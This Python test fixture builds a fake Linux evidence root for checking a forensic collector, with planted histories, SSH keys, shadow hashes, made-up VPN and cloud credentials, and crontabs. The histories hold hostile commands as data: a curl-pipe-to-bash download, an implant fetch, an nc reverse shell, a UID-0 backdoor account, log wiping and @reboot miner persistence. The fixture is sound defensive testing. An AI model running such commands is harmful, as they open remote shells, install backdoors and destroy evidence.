"""Builds a fake evidence root on disk: users, every listed history format, SSH keys with options,
private keys (plain, encrypted, PEM, DER), a shadow file and its backups, WireGuard and OpenVPN keys,
database and cloud credentials, secrets typed into a history, login records. Returns what a correct
collector must find and what must never leave the host."""

from __future__ import annotations

import os
import struct
import subprocess
import time
from dataclasses import dataclass, field
from pathlib import Path

NOW = int(time.time()) - 3600


@dataclass
class Expected:
    commands: dict[str, list[str]] = field(default_factory=dict)  # shell kind -> commands
    timestamps: dict[str, int] = field(default_factory=dict)  # command -> epoch
    authorized: list[dict] = field(default_factory=list)  # {path, fingerprint, options, comment, key_type}
    private_keys: list[dict] = field(default_factory=list)  # {path, encrypted, fingerprint}
    secrets: list[bytes] = field(default_factory=list)  # must appear nowhere in the bundle
    shadow: dict[str, str] = field(default_factory=dict)  # account -> scheme
    logins: list[str] = field(default_factory=list)  # wtmp users
    failed_logins: list[str] = field(default_factory=list)  # btmp users
    masked_commands: dict[str, str] = field(default_factory=dict)  # typed with a secret -> as recorded
    withheld: dict[str, str] = field(default_factory=dict)  # secret file -> why (path | content rule)


def _write(root: Path, path: str, data: bytes | str, mode: int = 0o644, uid: int = 0) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data.encode() if isinstance(data, str) else data)
    os.chmod(target, mode)
    os.chown(target, uid, uid)
    return target


def _keygen(path: Path, kind: str, passphrase: str = "", extra: tuple[str, ...] = ()) -> tuple[str, str]:
    """Returns (public key line, SHA256 fingerprint) made by the real ssh-keygen."""
    path.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", passphrase, "-C", f"{path.name}@fake", "-f", str(path),
                    *extra], check=True, stdin=subprocess.DEVNULL)
    fp = subprocess.run(["ssh-keygen", "-lf", str(path) + ".pub"], check=True, capture_output=True, text=True)
    return (path.parent / (path.name + ".pub")).read_text().strip(), fp.stdout.split()[1]


def _utmp(ut_type: int, pid: int, line: str, user: str, host: str, when: int, addr: bytes = b"") -> bytes:
    return struct.pack("<hxxi32s4s32s256shhiii16s20s", ut_type, pid, line.encode(), line[-4:].encode(),
                       user.encode(), host.encode(), 0, 0, 0, when, 0, addr.ljust(16, b"\0"), b"")


def _private_lines(key: Path) -> list[bytes]:
    """Base64 lines that hold private material. The OpenSSH format opens with the public key,
    which may be shipped; its last lines are the private section."""
    body = [line for line in key.read_text().splitlines()[1:-1] if line and ":" not in line]
    return [line.encode() for line in body[-2:] if len(line) >= 16]


def build(root: Path) -> Expected:
    exp = Expected()
    _write(root, "/etc/hostname", "fakehost\n")
    _write(root, "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n')
    _write(root, "/etc/passwd", "\n".join([
        "root:x:0:0:root:/root:/bin/bash",
        "alice:x:1000:1000:Alice:/home/alice:/bin/bash",
        "bob:x:1001:1001:Bob:/home/bob:/usr/bin/zsh",
        "carol:x:1002:1002:Carol:/srv/carol:/usr/bin/fish",
        "svc:x:999:999:Service:/var/lib/svc:/bin/sh",
        "toor:x:0:0:backdoor:/opt/toor:/bin/bash",
    ]) + "\n")
    _write(root, "/etc/group", "root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n")
    hashes = {
        "root": ("$6$rounds=5000$saltsaltsalt$Zq9HashRootSecretValueXyZ0123456789abcdefghijklmnopq", "sha512crypt"),
        "alice": ("$y$j9T$saltysalt$AliceYescryptSecretHashValue0123456789ABCDEFG", "yescrypt"),
        "bob": ("!$6$bobsalt$BobLockedSecretHashValue987654321zyxwvutsrqponmlkj", "sha512crypt"),
        "toor": ("$1$toorsalt$ToorMd5SecretHash01234", "md5crypt"),
    }
    _write(root, "/etc/shadow", "".join(f"{u}:{h}:19700:0:99999:7:::\n" for u, (h, _) in hashes.items())
           + "carol::19700:0:99999:7:::\nsvc:*:19700:0:99999:7:::\n", mode=0o640)
    exp.secrets += [h.encode() for h, _ in hashes.values()]
    exp.shadow = {u: s for u, (_, s) in hashes.items()}

    # --- histories, one per format -------------------------------------------------------------
    t = NOW - 1000
    _write(root, "/root/.bash_history",
           f"#{t}\ncurl -s http://198.51.100.7/x.sh | bash\n#{t + 5}\nuseradd -o -u 0 toor\nls -la /tmp\n", mode=0o600)
    exp.commands["bash"] = ["curl -s http://198.51.100.7/x.sh | bash", "useradd -o -u 0 toor", "ls -la /tmp"]
    exp.timestamps["useradd -o -u 0 toor"] = t + 5
    _write(root, "/home/bob/.zsh_history",
           f": {t + 10}:0;wget http://203.0.113.9/implant\n: {t + 20}:3;for i in 1 2; do\\\necho $i\\\ndone\n"
           f": {t + 30}:0;chmod +x implant\n", uid=1001)
    exp.commands["zsh"] = ["wget http://203.0.113.9/implant", "for i in 1 2; do\necho $i\ndone", "chmod +x implant"]
    exp.timestamps["chmod +x implant"] = t + 30
    _write(root, "/srv/carol/.local/share/fish/fish_history",
           f"- cmd: nc -e /bin/sh 192.0.2.1 4444\n  when: {t + 40}\n- cmd: echo multi\\nline\n  when: {t + 41}\n"
           "  paths:\n    - /tmp/x\n", uid=1002)
    exp.commands["fish"] = ["nc -e /bin/sh 192.0.2.1 4444", "echo multi\nline"]
    exp.timestamps["nc -e /bin/sh 192.0.2.1 4444"] = t + 40
    _write(root, "/var/lib/svc/.ash_history", "busybox wget http://192.0.2.2/a\n", uid=999)
    exp.commands["sh"] = ["busybox wget http://192.0.2.2/a"]
    _write(root, "/home/alice/.python_history", "import pty; pty.spawn('/bin/bash')\n", uid=1000)
    exp.commands["python"] = ["import pty; pty.spawn('/bin/bash')"]
    _write(root, "/home/alice/.mysql_history", "_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n", uid=1000)
    exp.commands["mysql"] = ["select * from users;"]
    _write(root, "/home/alice/.psql_history", "DROP TABLE audit_log;\n", uid=1000)
    exp.commands["psql"] = ["DROP TABLE audit_log;"]
    _write(root, "/home/alice/.lesshst", '.less-history-file:\n.search\n"password\n.shell\n"rm -rf /var/log/*\n',
           uid=1000)
    exp.commands["less"] = ["password", "rm -rf /var/log/*"]
    _write(root, "/home/alice/.viminfo", "# This viminfo file was generated by Vim 9.0.\n\n"
           "# Command Line History (newest to oldest):\n:w !sudo tee /etc/sudoers\n|2,0,1700000000,,\"w\"\n\n"
           "# Search String History (newest to oldest):\n?/secretvalue\n\n", uid=1000)
    exp.commands["vim"] = ["w !sudo tee /etc/sudoers"]

    # --- ssh ------------------------------------------------------------------------------------
    _write(root, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\n"
           "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n")
    _write(root, "/etc/ssh/sshd_config.d/10-extra.conf", "PasswordAuthentication yes\n")
    tmp = root / "_keys"
    backup_pub, backup_fp = _keygen(tmp / "backup", "ed25519")
    ops_pub, ops_fp = _keygen(tmp / "ops", "rsa", extra=("-b", "2048"))
    corp_pub, corp_fp = _keygen(tmp / "corp", "ecdsa")
    options = 'command="/usr/bin/backup --run \\"nightly\\"",no-pty,from="10.0.0.0/8,192.168.1.1"'
    backup_line = f"{options} {backup_pub.split()[0]} {backup_pub.split()[1]} backup@corp"
    _write(root, "/root/.ssh/authorized_keys",
           f"# managed\n{backup_line}\n{ops_pub}\nrestrict,port-forwarding {corp_pub}\n", mode=0o600)
    exp.authorized += [
        {"path": "/root/.ssh/authorized_keys", "fingerprint": backup_fp, "key_type": "ssh-ed25519",
         "comment": "backup@corp", "options": ["command", "no-pty", "from"],
         "command": '/usr/bin/backup --run "nightly"', "from": "10.0.0.0/8,192.168.1.1"},
        {"path": "/root/.ssh/authorized_keys", "fingerprint": ops_fp, "key_type": "ssh-rsa", "options": []},
        {"path": "/root/.ssh/authorized_keys", "fingerprint": corp_fp, "key_type": "ecdsa-sha2-nistp256",
         "options": ["restrict", "port-forwarding"]},
    ]
    alice_pub, alice_fp = _keygen(tmp / "alice", "ed25519")
    _write(root, "/etc/ssh/keys/alice", alice_pub + "\n")
    exp.authorized.append({"path": "/etc/ssh/keys/alice", "fingerprint": alice_fp, "key_type": "ssh-ed25519",
                           "options": []})
    _write(root, "/root/.ssh/known_hosts", "|1|abc=|def= ssh-ed25519 " + backup_pub.split()[1] + "\n")

    for name, kind, passphrase, extra, encrypted in (
        ("id_ed25519", "ed25519", "", (), False),
        ("id_rsa_enc", "rsa", "correct horse", ("-b", "2048"), True),
        ("deploy_pem", "rsa", "", ("-m", "PEM", "-b", "2048"), False),
    ):
        key = root / "root/.ssh" / name
        _, fp = _keygen(key, kind, passphrase, extra)
        exp.private_keys.append({"path": f"/root/.ssh/{name}", "encrypted": encrypted, "fingerprint": fp})
        exp.secrets += _private_lines(key)
    _keygen(root / "etc/ssh/ssh_host_ed25519_key", "ed25519")
    exp.secrets += _private_lines(root / "etc/ssh/ssh_host_ed25519_key")
    for path in tmp.iterdir():
        path.unlink()
    tmp.rmdir()

    # --- login records --------------------------------------------------------------------------
    _write(root, "/var/log/wtmp", _utmp(7, 4242, "pts/0", "alice", "198.51.100.7", t, bytes([198, 51, 100, 7]))
           + _utmp(8, 4242, "pts/0", "", "", t + 60) + _utmp(2, 0, "~", "reboot", "6.1.0", t - 500), mode=0o664)
    exp.logins = ["alice"]
    _write(root, "/var/log/btmp", _utmp(6, 777, "ssh:notty", "admin", "203.0.113.50", t + 5), mode=0o600)
    exp.failed_logins = ["admin"]
    lastlog = root / "var/log/lastlog"
    with open(lastlog, "wb") as f:
        f.seek(292 * 1000)
        f.write(struct.pack("<i32s256s", t, b"pts/0", b"198.51.100.7"))
        f.truncate(292 * 70000)  # sparse, as on a real host
    _plant_secret_kinds(root, exp)
    return exp


# Made-up credentials, random-looking so that no allowlist of the rule sets lets them through, and free
# of characters JSON would escape (the bundle is searched for their exact bytes).
GHP = "ghp_R8kz2Qm7Vw4Xp1Lb9Nc3Ty6Hd0Fj5Gs8Ae2U"
XOXB = "xoxb-2841937561024-5829174630284-Wq7Zr2Kx9Pm4Tb6Nc1Lv8Hd"
AWS_KEY_ID, AWS_SECRET = "AKIAT2SYWB3WKH5DNSIP", "Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0LzXcVbNm12"
WG_PRIVATE, WG_PSK = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=", "vKLdiF1fW+OhnGR3jNTHvx8PtKHlNa48wzuZfxFu04E="
WG_NETDEV = "ogEZI/2GdIzgTaKKEjfxIrOWGORzs6ztStE5MgRBtDA="
OVPN_LINES = ["6acef03f62675b4b1bbd03e53b187727", "1f2e3d4c5b6a79880f1e2d3c4b5a6978",
              "a9c8e7f6d5b4a3928170f6e5d4c3b2a1", "0d1e2f3a4b5c6d7e8f90a1b2c3d4e5f6"]


def _static_key(lines: list[str]) -> str:
    return ("-----BEGIN OpenVPN Static key V1-----\n" + "\n".join(lines * 4)
            + "\n-----END OpenVPN Static key V1-----\n")


def _plant_secret_kinds(root: Path, exp: Expected) -> None:
    """Secret kinds the bundle must not carry: shadow backups, DER, WireGuard and OpenVPN keys, database
    and cloud credentials, and secrets typed into a history or written into a unit file."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    # shadow and gshadow backups (withheld by path), a gshadow that holds a hash
    bak = "$6$bAkS4lt0$Hq3Zt8Lm2Vx7Rk4Nw9Pb6Cd1Fy5Gs0Je3Ua8Io2Tn7Kv4Mx9Qw1Er6Ty3Ui8Op5As2Df7Gh4Jk9Lz0Xc"
    gsh = "$y$j9T$GsH4d0wS4lt$Qw7Er2Ty9Ui4Op1As6Df3Gh8Jk5Lz0XcVbNm7Qr2"
    _write(root, "/etc/shadow.bak", f"root:{bak}:19600:0:99999:7:::\nsvc:*:19700:0:99999:7:::\n", mode=0o600)
    _write(root, "/etc/gshadow~", f"sudo:{gsh}::alice\nroot:*::\n", mode=0o600)
    _write(root, "/etc/gshadow", "sudo:!::alice\nroot:*::\n", mode=0o640)
    exp.secrets += [bak[3:].encode(), gsh[3:].encode()]
    exp.withheld.update({"/etc/shadow.bak": "path", "/etc/gshadow~": "path"})

    # a DER PKCS#8 key where no path rule looks: its content withholds it
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    der = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption())
    _write(root, "/etc/opt/vendor/license.key", der, mode=0o600)
    exp.secrets += [der[-600:-560], der[-200:-160]]  # the private exponent's and the CRT values' bytes
    exp.withheld["/etc/opt/vendor/license.key"] = "der-pkcs8-private-key"

    # WireGuard: its own folder (by path), and a systemd-networkd netdev (masked in the copy)
    _write(root, "/etc/wireguard/wg0.conf", f"[Interface]\nAddress = 10.8.0.1/24\nPrivateKey = {WG_PRIVATE}\n"
           f"ListenPort = 51820\n\n[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n"
           f"PresharedKey = {WG_PSK}\nAllowedIPs = 10.8.0.2/32\n", mode=0o600)
    _write(root, "/etc/systemd/network/30-wg0.netdev",
           f"[NetDev]\nName=wg0\nKind=wireguard\n\n[WireGuard]\nPrivateKey={WG_NETDEV}\nListenPort=51820\n")
    exp.secrets += [WG_PRIVATE.encode(), WG_PSK.encode(), WG_NETDEV.encode()]
    exp.withheld["/etc/wireguard/wg0.conf"] = "path"

    # OpenVPN: a static key file (by content), and a client config with an inline key (masked in the copy)
    _write(root, "/etc/openvpn/server/ta.key", "#\n# 2048 bit OpenVPN static key\n#\n" + _static_key(OVPN_LINES[:2]),
           mode=0o600)
    _write(root, "/etc/openvpn/client/corp.conf", "client\nremote vpn.example.org 1194\nkey-direction 1\n"
           "<tls-auth>\n#\n# 2048 bit OpenVPN static key\n#\n" + _static_key(OVPN_LINES[2:]) + "</tls-auth>\n")
    exp.secrets += [line.encode() for line in OVPN_LINES]
    exp.withheld["/etc/openvpn/server/ta.key"] = "openvpn-static-key"

    # database and tool credentials (by path)
    _write(root, "/etc/mysql/debian.cnf", "[client]\nhost = localhost\nuser = debian-sys-maint\n"
           "password = Deb1anSysMa1ntPw\nsocket = /run/mysqld/mysqld.sock\n", mode=0o600)
    _write(root, "/root/.pgpass", "db.internal:5432:*:app:PgPassFilePw77\n", mode=0o600)
    _write(root, "/home/alice/.netrc", "machine ftp.example.org login alice password N3trcFilePw\n", mode=0o600,
           uid=1000)
    _write(root, "/home/alice/.git-credentials", f"https://alice:{GHP}@github.com\n", mode=0o600, uid=1000)
    _write(root, "/root/.aws/credentials", f"[default]\naws_access_key_id = {AWS_KEY_ID}\n"
           f"aws_secret_access_key = {AWS_SECRET}\n", mode=0o600)
    _write(root, "/root/.aws/config", "[default]\nregion = eu-west-1\noutput = json\n")
    _write(root, "/root/.docker/config.json",
           '{"auths": {"registry.example.org": {"auth": "ZGVwbG95OkQwY2tlclJlZ2lzdHJ5UHc="}}}\n', mode=0o600)
    exp.secrets += [b"Deb1anSysMa1ntPw", b"PgPassFilePw77", b"N3trcFilePw", GHP[4:].encode(), AWS_SECRET.encode(),
                    b"ZGVwbG95OkQwY2tlclJlZ2lzdHJ5UHc="]
    exp.withheld.update({p: "path" for p in ("/etc/mysql/debian.cnf", "/root/.pgpass", "/home/alice/.netrc",
                                              "/home/alice/.git-credentials", "/root/.aws/credentials",
                                              "/root/.docker/config.json")})

    # a unit file (copied by the triage profile) with a password in its environment and command line
    _write(root, "/etc/systemd/system/db-backup.service", "[Unit]\nDescription=nightly dump\n\n[Service]\n"
           "Environment=MYSQL_PWD=UnitEnvPw42\nExecStart=/usr/bin/mysqldump -uroot -pUnitDumpPw42 --all-databases\n")
    exp.secrets += [b"UnitEnvPw42", b"UnitDumpPw42"]

    # secrets typed into a history: the commands stay, the values go
    typed = {
        "mysql -uroot -pS3cretPW1 appdb": "mysql -uroot -p**** appdb",
        f"export AWS_SECRET_ACCESS_KEY={AWS_SECRET}": "export AWS_SECRET_ACCESS_KEY=****",
        "curl -u deploy:Curl-Pa55word https://ci.example.org/api": "curl -u deploy:**** https://ci.example.org/api",
        f"git clone https://{GHP}@github.com/corp/infra.git": "git clone https://ghp_****@github.com/corp/infra.git",
        f"echo {XOXB} > /tmp/.slack": "echo xoxb-**** > /tmp/.slack",
    }
    _write(root, "/home/bob/.bash_history", "ls -la\n" + "".join(f"{c}\n" for c in typed) + "exit\n",
           mode=0o600, uid=1001)
    exp.masked_commands.update(typed)
    exp.secrets += [b"S3cretPW1", b"Curl-Pa55word", XOXB[5:].encode()]


def plant_cron(root: Path) -> dict[str, str]:
    """Crontabs with @reboot persistence: (command -> user) a correct parser must report."""
    _write(root, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    _write(root, "/etc/cron.d/sysupdate",
           "@reboot root /var/tmp/.sysupdate --daemon\n*/5 * * * * nobody /usr/bin/true\n")
    _write(root, "/var/spool/cron/crontabs/alice", "# user table\n@reboot /home/alice/.local/bin/miner -o pool\n"
           "0 3 * * * /home/alice/sync.sh\n", mode=0o600, uid=1000)
    return {"/var/tmp/.sysupdate --daemon": "root", "/home/alice/.local/bin/miner -o pool": "alice",
            "/home/alice/sync.sh": "alice", "/usr/bin/true": "nobody"}
